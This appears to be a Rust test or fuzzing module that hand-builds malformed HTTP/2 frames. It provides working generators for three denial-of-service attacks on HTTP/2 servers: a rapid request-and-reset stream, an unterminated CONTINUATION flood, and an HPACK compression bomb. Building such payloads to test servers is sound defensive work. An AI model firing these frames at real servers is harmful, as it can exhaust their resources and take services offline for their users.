//! Frames of HTTP/2 as an attacker writes them: by hand, and not as the standard wants them used.

/// What a client of HTTP/2 says first, with empty settings after it.
pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// The error code of a client that has changed its mind.
const CANCEL: [u8; 4] = [0, 0, 0, 8];

fn frame(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).expect("a frame is small").to_be_bytes();
    bytes.extend_from_slice(&length[1..]);
    bytes.extend_from_slice(&[kind, flags]);
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
}

/// `GET` of a path, in HPACK without any compression.
fn get(path: &str) -> Vec<u8> {
    // Indexed: method GET, scheme http. Literal, never indexed: path and authority.
    let mut block = vec![0x82, 0x86];
    for (name, value) in [(0x04, path), (0x01, "roomnight")] {
        block.push(name);
        block.push(u8::try_from(value.len()).expect("a short text"));
        block.extend_from_slice(value.as_bytes());
    }
    block
}

/// A request, and at once the word that nobody wants its answer.
pub fn request_and_reset(bytes: &mut Vec<u8>, stream: u32, path: &str) {
    frame(bytes, HEADERS, END_STREAM | END_HEADERS, stream, &get(path));
    frame(bytes, RST_STREAM, 0, stream, &CANCEL);
}

/// The beginning of headers that go on in further frames.
pub fn headers_without_end(bytes: &mut Vec<u8>, stream: u32) {
    frame(bytes, HEADERS, END_STREAM, stream, &get("/livez"));
}

/// More headers, and still no end.
pub fn continuation_without_end(bytes: &mut Vec<u8>, stream: u32) {
    let mut block = Vec::new();
    while block.len() < 16_000 {
        // A literal with a new name: one byte of name, 100 of value.
        block.extend_from_slice(&[0x00, 1, b'x', 100]);
        block.extend_from_slice(&[b'a'; 100]);
    }
    frame(bytes, CONTINUATION, 0, stream, &block);
}

/// One long header put into the table, and then named again and again: a few bytes that mean
/// megabytes.
pub fn compression_bomb(bytes: &mut Vec<u8>, stream: u32) {
    let mut block = get("/livez");
    // Literal with indexing, a new name; a value of 4,000 bytes, its length in three bytes.
    block.extend_from_slice(&[0x40, 1, b'x', 0x7f, 0xa1, 0x1e]);
    block.extend_from_slice(&[b'a'; 4_000]);
    block.extend_from_slice(&[0xbe; 10_000]);
    frame(bytes, HEADERS, END_STREAM | END_HEADERS, stream, &block);
}
